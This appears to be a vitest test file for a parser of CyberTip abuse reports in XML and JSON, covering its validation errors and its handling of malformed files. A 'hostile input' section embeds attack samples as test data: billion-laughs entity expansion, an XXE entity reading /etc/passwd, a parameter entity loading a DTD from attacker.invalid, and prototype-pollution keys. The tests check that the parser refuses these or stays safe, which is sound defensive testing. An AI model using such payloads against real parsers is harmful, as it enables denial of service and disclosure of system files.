import { describe, expect, it } from 'vitest';
import { SAMPLE_JSON, SAMPLE_XML } from './fixtures.ts';
import { type CyberTipParseOptions, parseCyberTip } from './parse.ts';

/** `path: reason` of the error, or `ok`. */
function failure(input: string | Uint8Array, options: CyberTipParseOptions = {}): string {
  const r = parseCyberTip(input, { file: 'tip.xml', ...options });
  if (r.ok) return 'ok';
  expect(r.error.file).toBe('tip.xml');
  return `${r.error.path}: ${r.error.reason}`;
}
const xml = (from: string, to: string) => {
  expect(SAMPLE_XML).toContain(from);
  return SAMPLE_XML.replace(from, to);
};
// biome-ignore lint/suspicious/noExplicitAny: tests edit deep paths of a JSON document
const json = (edit: (doc: Record<string, any>) => void) => {
  const doc = JSON.parse(SAMPLE_JSON);
  edit(doc);
  return JSON.stringify(doc);
};

describe('bad values name the element path', () => {
  it.each([
    ['2024-13-01T00:00:00Z', 'not a date (no such day)'],
    ['2023-02-29T00:00:00Z', 'not a date (no such day)'],
    ['yesterday', 'not a date (expected ISO 8601, e.g. 2024-01-15T14:30:00Z)'],
    ['2024-01-15T25:00:00Z', 'not a date (bad time)'],
    ['1899-01-01T00:00:00Z', 'not a date (year 1899 out of range)'],
  ])('incidentDateTime %j', (value, reason) => {
    expect(failure(xml('2024-01-15T21:30:00+07:00', value))).toBe(
      `report/incidentSummary/incidentDateTime: ${reason}`,
    );
  });

  it('impossible ages', () => {
    expect(failure(xml('<age>41</age>', '<age>-1</age>'))).toBe(
      'report/personOrUserReported/personOrUserReportedPerson/age: impossible age -1 (must be 0–120)',
    );
    expect(failure(xml('<age>13</age>', '<age>121</age>'))).toBe(
      'report/victim/victimPerson/age: impossible age 121 (must be 0–120)',
    );
    expect(failure(xml('<age>41</age>', '<age>forty</age>'))).toContain('age: not a number');
  });

  it('missing or malformed report id', () => {
    expect(failure(xml('<reportId>900000001</reportId>', ''))).toBe('report/reportId: missing report id');
    expect(failure(xml('<reportId>900000001</reportId>', '<reportId>9 0</reportId>'))).toBe(
      'report/reportId: not a report id (letters, digits, - and _)',
    );
    expect(
      failure(
        json((d) => delete d.reportId),
        { file: 'tip.xml' },
      ),
    ).toBe('reportId: missing report id');
  });

  it('wrong booleans, ports, coordinates, file of another report', () => {
    expect(
      failure(xml('<fileViewedByEsp>false</fileViewedByEsp>', '<fileViewedByEsp>maybe</fileViewedByEsp>')),
    ).toBe('report/fileDetails[1]/fileViewedByEsp: not a boolean (true or false)');
    expect(failure(xml('<port>443</port>', '<port>70000</port>'))).toBe(
      'report/personOrUserReported/ipCaptureEvent[1]/port: not a whole number from 0 to 65535',
    );
    expect(failure(xml('thirdPartyHostedContent="false"', 'thirdPartyHostedContent="perhaps"'))).toBe(
      'report/internetDetails[1]/webPageIncident@thirdPartyHostedContent: not a boolean (true or false)',
    );
    expect(
      failure(
        json((d) => {
          d.reportedInformation.internetDetails[0].cellPhoneIncident.latitude = 123;
        }),
      ),
    ).toBe('reportedInformation.internetDetails[0].cellPhoneIncident.latitude: not a number from -90 to 90');
    expect(
      failure(
        xml(
          '<reportId>900000001</reportId>\n    <fileId>F1',
          '<reportId>900000002</reportId>\n    <fileId>F1',
        ),
      ),
    ).toBe('report/fileDetails[1]/reportId: belongs to report 900000002, not 900000001');
  });

  it('JSON paths for JSON files', () => {
    expect(
      failure(
        json((d) => {
          d.reportedInformation.reportedPeople.reportedPersons[0].age = 130;
        }),
      ),
    ).toBe('reportedInformation.reportedPeople.reportedPersons[0].age: impossible age 130 (must be 0–120)');
    expect(
      failure(
        json((d) => {
          d.incidentSummary.incidentDateTime = '2024-02-30';
        }),
      ),
    ).toBe('incidentSummary.incidentDateTime: not a date (no such day)');
    expect(failure(json((d) => delete d.incidentSummary.incidentType))).toBe(
      'incidentSummary.incidentType: missing incident type',
    );
  });
});

describe('malformed documents', () => {
  it.each([
    ['', ': empty file'],
    ['   \n ', ': empty file'],
    ['hello', ': neither XML nor JSON'],
    ['<report><reportId>1</reportId>', "line 1, column 1: not well-formed XML: Unclosed tag 'report'."],
    [
      '<report><a>1</b></report>',
      "line 1, column 13: not well-formed XML: Expected closing tag 'a' (opened in line 1, col 9) instead of closing tag 'b'.",
    ],
    ['<report/><report/>', ': expected one root element, found 2'],
    [
      '<fileDetails><reportId>1</reportId></fileDetails>',
      'fileDetails: root element is <fileDetails>, expected <report>',
    ],
    ['<report>a & b</report>', "line 1, column 11: not well-formed XML: char '&' is not expected."],
    ['{"reportId": 1,', 'line 1, column 16: not valid JSON: expected double-quoted property name'],
    ['[{"reportId": "1"}]', ': expected one report (a JSON object)'],
  ])('%j', (input, expected) => {
    expect(failure(input).replace(/ \(line \d+ column \d+\)$/, '')).toBe(expected);
  });

  it('truncated files at any point are refused, never half-read', () => {
    for (let cut = 1; cut < SAMPLE_XML.length - 10; cut += 37) {
      expect(parseCyberTip(SAMPLE_XML.slice(0, cut)).ok).toBe(false);
    }
    for (let cut = 1; cut < SAMPLE_JSON.length - 1; cut += 29) {
      expect(parseCyberTip(SAMPLE_JSON.slice(0, cut)).ok).toBe(false);
    }
  });

  it('refuses bytes that are not text in the declared encoding', () => {
    expect(failure(Buffer.from([0x3c, 0x72, 0xff, 0xfe, 0x3e]).subarray(0, 5))).toBe(
      ': not valid utf-8 text',
    );
    expect(failure(Buffer.from('<?xml version="1.0" encoding="x-klingon"?><report/>'))).toBe(
      ': unsupported character encoding "x-klingon"',
    );
  });
});

describe('hostile input', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<report><reportId>1</reportId><additionalInfo>&lol3;</additionalInfo></report>`;
  const xxe = `<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<report><reportId>1</reportId><additionalInfo>&xxe;</additionalInfo></report>`;
  const parameterEntity = `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><report/>`;

  it.each([
    ['billion laughs', billionLaughs, 'line 2, column 1: DOCTYPE'],
    ['external entity (XXE)', xxe, 'line 2, column 1: DOCTYPE'],
    ['parameter entity', parameterEntity, 'line 1, column 1: DOCTYPE'],
    ['entity declaration without DOCTYPE', '<report><!ENTITY x "y"></report>', 'line 1, column 9: ENTITY'],
    ['lower-case doctype', '<!doctype report><report/>', 'line 1, column 1: DOCTYPE'],
  ])('%s is refused before parsing', (_name, input, prefix) => {
    const result = failure(input);
    expect(result.startsWith(prefix)).toBe(true);
    expect(result).toContain('declarations are not accepted');
  });

  it('refuses files over the size limit with payload_too_large', () => {
    const r = parseCyberTip(SAMPLE_XML, { maxBytes: 1000, file: 'big.xml' });
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.error.code).toBe('payload_too_large');
      expect(r.error.status).toBe(413);
    }
    expect(parseCyberTip(Buffer.alloc(2000, 0x20), { maxBytes: 1000 }).ok).toBe(false);
    expect(failure('é'.repeat(600), { maxBytes: 1000 })).toContain('larger than');
  });

  it('refuses a 200 MB file at once, without reading it', () => {
    const huge = Buffer.alloc(200 * 1024 * 1024, 0x20);
    const start = performance.now();
    expect(failure(huge)).toBe(': larger than the 50 MiB limit per report');
    expect(performance.now() - start).toBeLessThan(100);
  });

  it('refuses deep nesting in XML and JSON', () => {
    const deepXml = `<report>${'<a>'.repeat(100)}${'</a>'.repeat(100)}</report>`;
    expect(failure(deepXml)).toBe(': elements nested deeper than 32 levels');
    const deepJson = `{"reportId":"1","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    expect(failure(deepJson)).toBe(': JSON nested deeper than 32 levels');
    expect(failure(`<report>${'<a>'.repeat(200_000)}`)).toContain('not well-formed XML');
  });

  it('reads very wide documents (long arrays) without running out of stack', () => {
    const wide = json((d) => {
      d.reportedInformation.additionalInformation = Array.from({ length: 150_000 }, () => 'x');
    });
    const r = parseCyberTip(wide);
    expect(r.ok && r.report.additionalInfo.length).toBe(150_000);
  });

  it('refuses prototype-polluting names and keeps objects clean', () => {
    expect(failure('<report><__proto__><polluted>1</polluted></__proto__></report>')).toContain(
      'not well-formed XML',
    );
    const r = parseCyberTip(SAMPLE_JSON.replace('"reportId"', '"__proto__":{"polluted":true},"reportId"'));
    expect(r.ok).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
